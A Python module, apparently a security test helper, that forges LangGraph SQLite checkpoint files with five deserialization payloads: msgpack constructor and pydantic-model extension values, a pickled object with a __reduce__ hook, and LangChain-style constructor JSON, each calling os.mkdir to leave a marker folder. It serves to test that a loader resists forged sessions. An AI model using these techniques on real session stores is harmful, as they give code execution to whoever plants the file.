"""How a file of sessions can be forged, so that a trusting reader would run a command."""

from __future__ import annotations

import json
import os
import pickle
import sqlite3
from collections.abc import Callable, Mapping
from contextlib import closing
from pathlib import Path
from typing import Any, Final

import ormsgpack

_OPTIONS: Final = ormsgpack.OPT_NON_STR_KEYS
_CONSTRUCTOR: Final = 1
_MODEL: Final = 5
"""LangGraph's codes for a constructor with its arguments, and for a pydantic model with its fields."""

_MESSAGE: Final = ("langchain_core.messages.ai", "AIMessage")


def trace(path: Path) -> Path:
    """Return the folder that a reader of a forged file would make."""
    return path.with_name("made by a forged file")


def command(path: Path) -> ormsgpack.Ext:
    """Return a value that LangGraph's own decoder turns into a call of `os.mkdir`."""
    return ormsgpack.Ext(_CONSTRUCTOR, ormsgpack.packb(("os", "mkdir", (str(trace(path)),))))


def forge_theme(path: Path) -> None:
    """Replace the theme with a command."""
    _change_values(path, lambda values: {**values, "main_topic": command(path)})


def forge_message(path: Path) -> None:
    """Add a message with a command inside."""
    fields = {"content": "I agree.", "additional_kwargs": {"mood": command(path)}}
    message = ormsgpack.Ext(_MODEL, ormsgpack.packb((*_MESSAGE, fields, "model_validate_json")))
    _change_values(path, lambda values: {**values, "messages": [*values.get("messages", []), message]})


def forge_question(path: Path) -> None:
    """Replace the question that waits with a command."""
    _execute(path, "UPDATE writes SET value = ? WHERE channel = '__interrupt__'", ormsgpack.packb([command(path)]))


def forge_object(path: Path) -> None:
    """Replace the whole session with a pickled object."""
    _replace(path, "pickle", pickle.dumps(_Making(trace(path))))


def forge_constructor(path: Path) -> None:
    """Replace the whole session with JSON that names a constructor."""
    call = {"lc": 2, "type": "constructor", "id": ["os", "mkdir"], "args": [str(trace(path))]}
    _replace(path, "json", json.dumps(call).encode())


FORGERIES: Final[Mapping[str, Callable[[Path], None]]] = {
    "forged with a command": forge_theme,
    "forged with a command in a message": forge_message,
    "forged with a command in the question": forge_question,
    "forged with a pickled object": forge_object,
    "forged with a constructor in JSON": forge_constructor,
}
"""Each way in business words."""


class _Making:
    """Makes a folder when it is unpickled."""

    def __init__(self, folder: Path) -> None:
        self._folder = folder

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return os.mkdir, (str(self._folder),)


class _Kept:
    """A value that stays as it was stored."""

    def __init__(self, code: int, content: bytes) -> None:
        self.stored = ormsgpack.Ext(code, content)


def _change_values(path: Path, change: Callable[[dict[str, Any]], dict[str, Any]]) -> None:
    with closing(sqlite3.connect(path)) as connection:
        rows = connection.execute("SELECT rowid, checkpoint FROM checkpoints ORDER BY checkpoint_id DESC LIMIT 1")
        row, content = rows.fetchone()
    checkpoint = ormsgpack.unpackb(content, ext_hook=_Kept, option=_OPTIONS)
    checkpoint["channel_values"] = change(checkpoint["channel_values"])
    forged = ormsgpack.packb(checkpoint, default=lambda kept: kept.stored, option=_OPTIONS)
    _execute(path, "UPDATE checkpoints SET checkpoint = ? WHERE rowid = ?", forged, row)


def _replace(path: Path, form: str, content: bytes) -> None:
    _execute(path, "UPDATE checkpoints SET type = ?, checkpoint = ?", form, content)


def _execute(path: Path, statement: str, *values: Any) -> None:
    with closing(sqlite3.connect(path)) as connection, connection:
        changed = connection.execute(statement, values).rowcount
    if not changed:
        raise ValueError(f"{path} holds nothing that could be forged so: {statement}")
